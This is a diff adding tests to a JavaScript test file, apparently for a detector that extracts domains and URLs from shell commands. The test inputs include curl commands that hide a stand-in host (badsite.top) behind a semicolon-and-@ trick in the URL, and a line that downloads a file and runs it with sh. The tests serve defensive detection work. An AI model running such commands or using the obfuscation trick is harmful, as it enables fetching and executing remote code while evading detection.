@@ -277,3 +277,17 @@ test('whatever is given, judging ends and answers the same again', () => {
     { seed: 5, numRuns: 150 },
   );
 });
+
+test.each([
+  'cmd /c curl http://good-site.com;@badsite.top/x -o x',
+  'curl http://good-site.com\\;@badsite.top/x',
+  'curl "http://good-site.com;@badsite.top/x"',
+])('a semicolon before an @ hides no host: %s', (command) => {
+  expect(indicatorsInCommands([command])).toContainEqual({ type: 'domain', value: 'badsite.top' });
+});
+
+test('the next command behind a semicolon is no part of a URL', () => {
+  const found = indicatorsInCommands(['curl http://203.0.113.9/a;sh a']).map(({ value }) => value);
+  expect(found).toContain('http://203.0.113.9/a');
+  expect(found.filter((value) => value.includes(';'))).toEqual([]);
+});
